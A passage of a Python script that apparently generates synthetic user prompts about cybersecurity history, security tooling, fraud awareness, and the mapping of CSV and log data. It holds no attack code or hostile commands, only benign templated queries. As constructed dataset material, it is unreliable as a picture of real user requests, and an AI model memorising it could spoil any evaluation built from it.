         "B) Blaster C) Code Red. And was Ada Lovelace or Grace Hopper first to use the word bug? Check it"),
    ])


@T(CHI, "he_shamir", "he", 1)
def _he_shamir(c: Ctx) -> str:
    return "מי הם שמיר, ריבסט ואדלמן, ומה הקשר של עדי שמיר למכון ויצמן?"


@T(CHI, "hu_neumann", "hu", 1)
def _hu_neumann(c: Ctx) -> str:
    return "Ki volt Neumann János, és miért emlegetik ma is a biztonsági képzéseken az önreprodukáló automatákat?"


@T(CHI, "cs_avast", "cs", 1)
def _cs_avast(c: Ctx) -> str:
    return "Jak vznikl Avast a kdo byli Pavel Baudiš a Eduard Kučera? Stačí pár vět do prezentace."


@T(CHI, "women_in_security", "en", 2)
def _women_in_security(c: Ctx) -> str:
    return c.alt([
        ("Give me five women for our International Women's Day post about security: Hedy Lamarr, Grace Hopper, "
         "Dorothy Denning, Parisa Tabriz and Katie Moussouris, one line each."),
        ("Who is Jen Easterly, and what did she change at CISA with Secure by Design? Two paragraphs for the "
         "newsletter."),
    ])


@T(CHI, "ko_slammer", "ko", 1)
def _ko_slammer(c: Ctx) -> str:
    return "2003년 1.25 인터넷 대란(슬래머 웜)이 무엇이었는지, 왜 국내 피해가 컸는지 설명해 줘."


@T(CHI, "tl_iloveyou", "tl", 1)
def _tl_iloveyou(c: Ctx) -> str:
    return ("Sino si Onel de Guzman at ano ang kinalaman niya sa ILOVEYOU virus noong 2000? Para sa report "
            "namin sa school, pa-explain in simple English pls.")


@T(CHI, "id_bjorka", "id", 1)
def _id_bjorka(c: Ctx) -> str:
    return "Siapa sebenarnya Bjorka dan kenapa namanya ramai di Indonesia pada 2022?"


@T(CHI, "phreakers_history", "en", 1)
def _phreakers_history(c: Ctx) -> str:
    return c.alt([
        ("What was John Draper (Captain Crunch) famous for, and how did the 2600 Hz whistle fool AT&T's long-distance "
         "switches?"),
        ("Did Steve Wozniak and Steve Jobs really sell blue boxes before Apple? Short answer for a talk on the "
         "history of phone fraud."),
    ])


@T(CTL, "secrets_tools_compare", "en", 1)
def _secrets_tools_compare(c: Ctx) -> str:
    return c.alt([
        ("1Password vs Bitwarden vs KeePassXC vs Dashlane for a 200-person firm that already uses Okta and Duo? "
         "Pros and cons in a table."),
        ("Is HashiCorp Vault or CyberArk Conjur the better fit for secrets in Jenkins and GitHub Actions "
         "pipelines? We're mostly on AWS."),
    ])


@T(CTI, "fraud_typology_explainer", "en", 2)
def _fraud_typology_explainer(c: Ctx) -> str:
    return c.alt([
        ("Explain 'pig butchering' investment scams and how they move money through USDT on Tron. What red flags "
         "should a bank's fraud team watch for?"),
        ("Write a one-page explainer for branch staff on 'Hi Mum' WhatsApp scams and romance fraud, with the "
         "typical scripts and what to say to a customer in the queue."),
    ])



@T(CTI, "merchant_chargeback_csv", "en", 1)
def _merchant_chargeback_csv(c: Ctx) -> str:
    return """Which of these merchants are over the Visa VAMP threshold? Chargeback ratios from last month:

merchant,descriptor,mcc,txns,chargebacks,ratio
Ted Baker,TEDBAKER.COM LONDON,5651,48210,61,0.13%
Tommy Hilfiger,TOMMY.COM,5651,90544,240,0.27%
McDonald's,MCDONALDS 1182,5814,310220,95,0.03%
Ralph Lauren,RALPHLAUREN.CO.UK,5651,22107,198,0.90%
Marks & Spencer,M&S ONLINE,5311,402118,377,0.09%"""


@T(CTL, "meeting_room_doors_csv", "en", 1)
def _meeting_room_doors_csv(c: Ctx) -> str:
    return """Import this door list into Genetec. Rooms are named after scientists, which confuses the reader \
naming scheme. Suggest IDs:

door_name,floor,reader_model,controller
Turing Room,3,HID Signo 20,Synergis Cloud Link 1
Lovelace Suite,3,HID Signo 20,Synergis Cloud Link 1
Hopper Lab,4,HID Signo 40K,Synergis Cloud Link 2
Curie Boardroom,5,HID Signo 20,Synergis Cloud Link 2
Tesla Server Room,B1,HID iCLASS SE RK40,Synergis Cloud Link 3"""


@T(CHI, "solarwinds_timeline", "en", 1)
def _solarwinds_timeline(c: Ctx) -> str:
    return """Check the facts in this public timeline for our supply-chain training slide:

| date | who | what |
|---|---|---|
| 8 Dec 2020 | Kevin Mandia (FireEye) | discloses theft of FireEye red-team tools |
| 13 Dec 2020 | FireEye / Microsoft | publish SUNBURST backdoor in SolarWinds Orion |
| 14 Dec 2020 | Kevin Thompson (SolarWinds CEO) | 8-K filing: up to 18,000 customers affected |
| Jan 2021 | Sudhakar Ramakrishna | takes over as SolarWinds CEO |
| Apr 2021 | US Treasury | attributes the campaign to Russia's SVR (APT29) |"""


@T(CTL, "tier_chat_lower", "en", 1, case="lower")
def _tier_chat_lower(c: Ctx) -> str:
    return """[09:02] tier1: is the crowdstrike falcon sensor update from this morning safe to roll to the jump hosts
[09:03] tier2: after july 2024 i'd stage it, n-1 on the canary group first
[09:04] tier1: ok and sentinelone on the mac fleet?
[09:05] tier2: leave it, jamf pushes that on friday
turn this into a change-advisory note, no names needed"""


@T(CTP, "signin_sample_contoso", "en", 1)
def _signin_sample_contoso(c: Ctx) -> str:
    return """This is the sample sign-in record from the Microsoft docs. Map each field to our SIEM schema:

{
  "createdDateTime": "2024-01-01T00:00:00Z",
  "userDisplayName": "Test User",
  "userPrincipalName": "testuser@contoso.com",
  "ipAddress": "<client IP>",
  "location": {"city": "<city>", "countryOrRegion": "<country>"},
  "status": {"errorCode": 50126, "failureReason": "Invalid username or password."}
}"""

if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
